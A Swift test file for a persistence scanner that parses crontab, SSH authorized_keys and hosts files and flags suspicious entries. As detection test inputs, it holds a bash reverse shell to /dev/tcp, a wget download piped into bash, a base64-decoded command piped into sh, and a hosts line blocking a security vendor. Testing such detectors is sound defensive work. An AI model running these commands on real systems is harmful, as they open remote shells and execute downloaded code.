import Pipeline
import PipelineTesting
import Testing

@testable import Persistence

@Suite struct CronTests {
    private func cron(_ text: String, _ path: String = "host/etc/crontab") -> ScannedOutput {
        scan(CronStage(), Bytes(utf8: text), path: path, kind: "Text")
    }

    private func commands(_ text: String, _ path: String) -> [String] {
        cron(text, path).records.compactMap { $0.fields.last?.value }
    }

    @Test func systemForm() { #expect(goldenDifference("crontab-system.txt", cron(CrontabSample.text).text) == nil) }

    @Test func userFormIsNamedAfterItsOwner() {
        let output = cron("@daily /usr/bin/backup\n1 2 3 4 5 a b\n", "host/var/spool/cron/crontabs/Anna")
        #expect(
            output.records.map { $0.fields.map(\.value) } == [
                ["Anna", "@daily", "/usr/bin/backup"], ["Anna", "1 2 3 4 5", "a b"],
            ])
        #expect(commands("1 2 3 4 5 a b\n", "var/spool/cron/root") == ["a b"])
        #expect(commands("1 2 3 4 5 a b\n", "crontab-root.txt") == ["a b"])
        #expect(commands("1 2 3 4 5 a b\n", "etc\\cron.d\\x") == ["b"])
        #expect(commands("1 2 3 4 5 a b\n", "notes.txt").isEmpty)
    }

    @Test(arguments: [
        ("bash -i >& /dev/" + "tcp/192.0.2.1/9 0>&1", "CronReverseShell"), ("/tmp/a", "CronTemporaryFolder"),
        ("wget -qO- http://192.0.2.1/a " + "| bash", "CronDownloadIntoShell"),
        ("echo YQ== | base64 -d " + "| sh", "CronDecodedCommand"),
    ])
    func commandsAreJudged(command: String, id: String) {
        let output = cron("* * * * * root \(command)\n")
        #expect(output.findings.flatMap(\.reasons).map(\.signature.ruleName) == [id])
    }

    @Test func ordinaryJobsAreNot() {
        let output = cron(
            """
            25 6 * * * root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily
            0 4 * * * root find /tmp -type f -mtime +7 -delete
            */10 * * * * www-data curl -fsS https://status.example/ping > /dev/null
            """)
        #expect(output.records.count == 3)
        #expect(output.findings.flatMap(\.reasons).isEmpty)
    }

    @Test func stageConforms() {
        let kit = StageConformance(path: "etc/crontab", kind: "Text")
        #expect(kit.violations(of: CronStage(), sample: Array(CrontabSample.text.utf8)) == [])
    }

    @Test func limitsAreSaid() {
        let long = "* * * * * root " + String(repeating: "a", count: ConfigurationLines.byteLimit)
        let output = cron(long + "\n* * * * * root b\n")
        #expect(output.records.count == 1)
        #expect(output.issues.map(\.code) == [.limit])
        #expect(cron("\0" + CrontabSample.text).records.isEmpty)
    }
}

@Suite struct AuthorizedKeysTests {
    private func keys(_ path: String = "root/.ssh/authorized_keys") -> ScannedOutput {
        scan(AuthorizedKeysStage(), Bytes(utf8: AuthorizedKeysSample.text), path: path, kind: "Text")
    }

    @Test func fieldsAndReasons() { #expect(goldenDifference("authorized-keys.txt", keys().text) == nil) }

    @Test func otherFilesAreNotRead() {
        #expect(keys("etc/ssh/authorized_keys/anna").records.count == 5)
        #expect(keys(".ssh/authorized_keys2").records.count == 5)
        #expect(keys(".ssh/known_hosts").records.isEmpty)
    }

    @Test func stageConforms() {
        let kit = StageConformance(path: ".ssh/authorized_keys", kind: "Text")
        #expect(kit.violations(of: AuthorizedKeysStage(), sample: Array(AuthorizedKeysSample.text.utf8)) == [])
    }
}

@Suite struct HostsFileTests {
    private func hosts(_ text: String, _ path: String = "C/Windows/System32/drivers/etc/hosts") -> ScannedOutput {
        scan(HostsFileStage(), Bytes(utf8: text), path: path, kind: "Text")
    }

    @Test func fieldsAndReasons() { #expect(goldenDifference("hosts.txt", hosts(HostsSample.text).text) == nil) }

    @Test func namesAreComparedByLabels() {
        #expect(hosts("127.0.0.1 noteset.com eset.com.example\n").findings.flatMap(\.reasons).isEmpty)
        #expect(
            hosts("127.0.0.1 eset.com\n").findings.flatMap(\.reasons).map(\.signature.ruleName) == [
                "HostsBlocksSecurity"
            ])
        #expect(hosts("127.0.0.1 eset.com\n", "hosts.json").records.isEmpty)
    }

    @Test func stageConforms() {
        let kit = StageConformance(path: "etc/hosts", kind: "Text")
        #expect(kit.violations(of: HostsFileStage(), sample: Array(HostsSample.text.utf8)) == [])
    }
}
